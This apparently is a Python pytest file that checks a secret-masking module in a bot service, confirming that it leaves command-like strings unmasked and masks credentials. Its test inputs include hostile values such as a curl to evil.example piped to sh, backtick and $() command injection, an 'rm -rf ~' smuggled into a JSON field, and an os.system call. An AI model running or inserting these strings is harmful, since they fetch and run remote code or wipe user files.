"""Dots stand for secrets, and for nothing that could run."""

import pytest

from botservice.conversation.masked_secrets import DOTS, find_secrets, mask


@pytest.mark.parametrize(
    "text",
    [
        "curl https://u:$(curl${IFS}evil.example|sh)@good.example",
        "curl https://u:`id`@good.example",
        '[ "token": "$(curl evil.example|sh)" ]',
        '{"secretary": "x; rm -rf ~"}',
        "{\"tokens_receiver\": \"__import__('os').system('id')\"}",
        '{"cookies_to_buy": "' + "a word " * 100 + '"}',
    ],
)
def test_what_could_run_is_not_masked_under_a_name_that_a_model_chose(text):
    assert find_secrets(text) == []
    assert DOTS not in str(mask({"command": text, "inner": {"token": text}}["command"]))


def test_words_that_look_like_secrets_are_masked_wherever_they_stand():
    assert DOTS in mask("postgres://app:hunter2hunter2@db.example/main")
    assert DOTS in mask('{"api_key": "0123456789abcdef"}')
    assert DOTS in mask("correct horse; battery (staple)", "password")  # whose tool named it, and not its model
